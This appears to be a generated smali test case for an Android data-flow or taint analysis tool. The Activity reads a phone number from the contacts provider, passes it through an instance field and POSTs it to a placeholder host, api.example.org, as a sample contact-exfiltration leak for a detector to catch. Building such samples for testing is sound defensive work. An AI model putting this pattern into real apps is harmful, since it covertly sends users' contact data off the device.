# Made by tests/cases/compile.py
.class public final Lcases/flow_instance_field/Main;
.super Landroid/app/Activity;

.field private final box:Lcases/flow_instance_field/Box;

.method public constructor <init>()V
    .registers 2
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    new-instance v0, Lcases/flow_instance_field/Box;
    invoke-direct {v0}, Lcases/flow_instance_field/Box;-><init>()V
    iput-object v0, p0, Lcases/flow_instance_field/Main;->box:Lcases/flow_instance_field/Box;
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 9
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Lcases/flow_instance_field/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v1
    sget-object v2, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    const/4 v6, 0x0
    invoke-virtual/range {v1 .. v6}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    iget-object v1, p0, Lcases/flow_instance_field/Main;->box:Lcases/flow_instance_field/Box;
    const/4 v2, 0x0
    invoke-interface {v0, v2}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v2
    iput-object v2, v1, Lcases/flow_instance_field/Box;->text:Ljava/lang/String;
    invoke-direct {p0}, Lcases/flow_instance_field/Main;->upload()V
    return-void
.end method

.method private upload()V
    .registers 4
    :l_0
    iget-object v1, p0, Lcases/flow_instance_field/Main;->box:Lcases/flow_instance_field/Box;
    iget-object v1, v1, Lcases/flow_instance_field/Box;->text:Ljava/lang/String;
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {v1}, Lcases/flow_instance_field/Main;->send([B)V
    :l_d
    goto :l_19
    :l_10
    move-exception v0
    const-string v1, "upload"
    const-string v2, "later"
    invoke-static {v1, v2}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
    :l_19
    return-void
    .catch Ljava/io/IOException; {:l_0 .. :l_d} :l_10
.end method

.method static send([B)V
    .registers 5
    new-instance v2, Ljava/net/URL;
    const-string v3, "https://api.example.org/v1/contacts"
    invoke-direct {v2, v3}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    check-cast v0, Ljava/net/HttpURLConnection;
    const/4 v2, 0x1
    invoke-virtual {v0, v2}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v1
    invoke-virtual {v1, p0}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {v1}, Ljava/io/OutputStream;->close()V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getInputStream()Ljava/io/InputStream;
    move-result-object v2
    invoke-virtual {v2}, Ljava/io/InputStream;->close()V
    return-void
.end method
